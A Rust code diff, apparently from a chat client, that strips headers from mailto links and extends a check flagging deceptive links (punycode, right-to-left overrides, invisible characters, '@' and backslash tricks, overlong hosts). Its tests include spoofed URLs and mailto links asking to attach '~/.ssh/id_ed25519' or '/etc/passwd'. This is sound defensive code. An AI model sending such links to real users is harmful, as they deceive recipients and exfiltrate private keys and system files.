@@ -2,6 +2,7 @@
 
 use super::{AppState, FirstRunStep, Overlay, Phase};
 use crate::effect::Effect;
+use crate::limits::HOST_SEEN_MAX;
 
 impl AppState {
     /// Opens a link. One of Pulse is asked about here; one that looks odd is shown first, and opened when it is asked for again
@@ -18,7 +19,7 @@ impl AppState {
                     self.overlay = Some(warning);
                     return Vec::new();
                 }
-                vec![Effect::OpenUrl(link.to_owned())]
+                vec![Effect::OpenUrl(without_headers(link).to_owned())]
             }
             _ => Vec::new(),
         }
@@ -57,17 +58,43 @@ impl AppState {
     }
 }
 
-/// Whether a link may lead elsewhere than it seems to: letters that look like others, or a name before an `@`.
+/// An address to write to, without what a link can put into the letter: some mail programs attach files of this computer when
+/// a link says so.
+fn without_headers(link: &str) -> &str {
+    match link.get(.."mailto:".len()) {
+        Some(scheme) if scheme.eq_ignore_ascii_case("mailto:") => {
+            link.split('?').next().unwrap_or(link)
+        }
+        _ => link,
+    }
+}
+
+/// Whether a link may lead elsewhere than it seems to: letters that look like others or turn the direction of reading, a name
+/// before an `@`, signs that browsers read otherwise, or a name so long that its end is out of sight.
 pub(crate) fn looks_odd(link: &str) -> bool {
-    let Some((_, rest)) = link.split_once("://") else {
+    let lower = link.to_ascii_lowercase();
+    let Some((scheme, rest)) = lower.split_once("://") else {
         return !link.is_ascii();
     };
     let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
-    !authority.is_ascii()
-        || authority.contains('@')
+    scheme == "http"
+        || !authority.is_ascii()
+        || authority.contains(['@', '\\', '%'])
+        || authority.len() > HOST_SEEN_MAX
         || authority.split('.').any(|label| label.starts_with("xn--"))
-        || link.starts_with("http://")
-        || link.chars().any(char::is_control)
+        || link.chars().any(turns_or_hides)
+}
+
+/// Characters that are not seen, and letters that are read from right to left: they change where the other parts of a link stand.
+fn turns_or_hides(character: char) -> bool {
+    character.is_control()
+        || crate::rich_text::has_rtl(character.encode_utf8(&mut [0; 4]))
+        || matches!(
+            character,
+            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
+                | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
+                | '\u{ffa0}' | '\u{e0000}'..='\u{e0fff}'
+        )
 }
 
 #[cfg(test)]
@@ -81,6 +108,15 @@ mod tests {
             "https://example.org@evil.example/",
             "https://xn--pypal-4ve.com/",
             "http://example.org/",
+            "HTTP://example.org/",
+            "https://XN--pypal-4ve.com/",
+            "https://evil.example\\.bank.example/",
+            "https://%65vil.example/",
+            "https://example.org/\u{202e}gpj.exe",
+            "https://evil.example/א/www.bank.example",
+            "https://bank\u{200b}.example/",
+            "https://example.org/\u{e0041}",
+            &format!("https://bank.example.{}.evil.example/", "a".repeat(60)),
         ] {
             assert!(looks_odd(link), "{link}");
         }
@@ -88,8 +124,23 @@ mod tests {
             "https://example.org/a@b?c=d",
             "https://example.org",
             "mailto:a@example.org",
+            "https://example.org/ä/日本?q=é",
+            "https://some-project.pages.hosting.example.org/",
         ] {
             assert!(!looks_odd(link), "{link}");
         }
+    }
+
+    /// A contact sends `mailto:me@evil.example?attach=~/.ssh/id_ed25519`, or a letter that is written already.
+    #[test]
+    fn a_link_puts_nothing_into_a_letter() {
+        assert_eq!(
+            without_headers("MAILTO:a@example.org?attach=/etc/passwd&body=b"),
+            "MAILTO:a@example.org"
+        );
+        assert_eq!(
+            without_headers("https://example.org/?attach=1"),
+            "https://example.org/?attach=1"
+        );
     }
 }
